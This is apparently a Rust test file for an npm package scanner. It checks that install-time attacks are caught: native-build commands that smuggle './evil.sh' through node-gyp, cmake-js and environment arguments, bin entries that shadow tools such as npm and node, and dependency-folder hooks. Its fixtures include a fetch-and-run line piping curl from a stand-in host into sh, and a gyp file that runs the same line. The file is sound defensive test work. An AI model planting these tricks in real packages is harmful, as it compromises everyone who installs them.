//! Builders of native code as a cover, commands that stand in front of tools, and honest ones that look alike.

use weir_model::contents::{SinkKind, Surface};
use weir_npm::manifest::Manifest;

use super::commands::SENDS;
use super::{given, run};
use crate::{Facts, Limits, Package, analyse};

/// A script of the shell that fetches and runs.
const FETCHES: &str = "#!/bin/sh\ncurl -s https://c.invalid/x.sh | sh\n";

fn has_flow(facts: &Facts) -> bool {
    let mut flows = facts.flows.iter();
    flows.any(|it| it.surface == Surface::Install)
}

fn fetches(facts: &Facts) -> bool {
    let mut flows = facts.flows.iter();
    flows.any(|it| it.surface == Surface::Install && it.sink == SinkKind::Process)
}

#[test]
fn what_builders_are_told_to_run_is_followed() {
    for command in [
        "./node-gyp rebuild",
        "./node-gyp.sh; ./node-gyp rebuild",
        "cd tools && ../node-gyp rebuild",
        "node-gyp rebuild --python=./evil.sh",
        "node-gyp rebuild --python ./evil.sh",
        "node-gyp rebuild --pyth=./evil.sh",
        "node-gyp rebuild --python=evil.sh",
        "node-gyp rebuild --make=./evil.sh",
        "node-gyp configure --make ./evil.sh build",
        "node-pre-gyp install --build-from-source --python=./evil.sh",
        "cmake-js compile -c ./evil.sh",
        "npm_config_python=./evil.sh node-gyp rebuild",
        "PYTHON=./evil.sh node-gyp rebuild",
        "CC=./evil.sh node-gyp rebuild",
        "CXX='ccache ./evil.sh' node-gyp rebuild",
        "node-gyp rebuild --nodedir=./evil",
        "node-gyp rebuild --nodedir evil/",
        "npm_config_nodedir=evil node-gyp rebuild",
        "node-gyp-build './evil.sh'",
        "node-gyp-build 'true' \"sh evil.sh\"",
        "node-gyp-build 'curl -s https://c.invalid/x.sh | sh'",
        "node-gyp rebuild $(sh evil.sh)",
        "node-gyp rebuild\nsh evil.sh",
    ] {
        let files = [
            ("node-gyp", FETCHES),
            ("evil.sh", FETCHES),
            (
                "evil/include/node/common.gypi",
                r#"{"variables":{"z":"<!(curl -s https://c.invalid/x.sh | sh)"}}"#,
            ),
            ("binding.gyp", r#"{"targets":[{"target_name":"x"}]}"#),
        ];
        let facts = run(&files, &[command], &[]);
        assert!(fetches(&facts), "{command}: {:?}", facts.flows);
    }
}

#[test]
fn builders_with_usual_arguments_run_nothing_of_the_package() {
    for command in [
        "node-gyp rebuild",
        "node-gyp rebuild --python=python3 --release -j max",
        "PYTHON=/usr/bin/python3 CC=clang node-gyp rebuild",
        "node-pre-gyp install --fallback-to-build",
        "prebuild-install -r napi || node-gyp rebuild",
        "node-gyp-build",
        "cmake-js compile -c cmake",
        "./node_modules/.bin/node-gyp rebuild",
    ] {
        let files = [
            ("evil.sh", FETCHES),
            ("binding.gyp", r#"{"targets":[{"target_name":"x"}]}"#),
        ];
        let facts = run(&files, &[command], &[]);
        assert!(facts.flows.is_empty(), "{command}: {:?}", facts.flows);
        assert!(facts.unread.is_empty(), "{command}: {:?}", facts.unread);
    }
}

fn with_commands(manifest: &str, files: &[(&str, &str)]) -> Facts {
    let files = given(files);
    let manifest = Manifest::from_json(manifest).unwrap();
    analyse(&Package::new(&files, &manifest), &Limits::default())
}

#[test]
fn commands_that_stand_before_tools_run_at_install() {
    for (manifest, file, text) in [
        (
            r#"{"name":"a","bin":{"node":"evil.sh"}}"#,
            "evil.sh",
            FETCHES,
        ),
        (
            r#"{"name":"a","bin":{"sh":"./bin/evil"}}"#,
            "bin/evil",
            FETCHES,
        ),
        (
            r#"{"name":"a","bin":{"../Git.exe":"a b.sh"}}"#,
            "a b.sh",
            FETCHES,
        ),
        (r#"{"name":"a","bin":{"npm":"evil.js"}}"#, "evil.js", SENDS),
        (r#"{"name":"a","bin":{"npm":"evil"}}"#, "evil", SENDS),
        (
            r#"{"name":"a","directories":{"bin":"b"}}"#,
            "b/node-gyp",
            FETCHES,
        ),
    ] {
        let facts = with_commands(manifest, &[(file, text)]);
        assert!(has_flow(&facts), "{manifest}: {:?}", facts.flows);
        let step = facts.install_steps.first().unwrap();
        assert!(step.event.starts_with("bin."), "{step:?}");
        assert_eq!(step.reaches, [file], "{manifest}");
    }
    // The tool itself, one that is named after it, and a command of another name.
    for manifest in [
        r#"{"name":"npm","bin":{"npm":"evil.js"}}"#,
        r#"{"name":"@left/node-gyp","bin":{"node-gyp":"evil.js"}}"#,
        r#"{"name":"left","bin":{"left":"evil.js"}}"#,
    ] {
        let facts = with_commands(manifest, &[("evil.js", SENDS)]);
        assert!(!has_flow(&facts), "{manifest}: {:?}", facts.flows);
        assert!(facts.install_steps.is_empty(), "{manifest}");
    }
}

#[test]
fn hooks_of_folders_that_are_dependencies_are_followed() {
    let hook = r#"{"name":"sub","scripts":{"postinstall":"node x.js"}}"#;
    for (spec, is_followed) in [("file:./sub", true), ("link:sub", true), ("^1.0.0", false)] {
        let manifest = format!(r#"{{"name":"a","dependencies":{{"sub":"{spec}"}}}}"#);
        let facts = with_commands(
            &manifest,
            &[("sub/package.json", hook), ("sub/x.js", SENDS)],
        );
        assert_eq!(has_flow(&facts), is_followed, "{spec}: {:?}", facts.flows);
    }
}
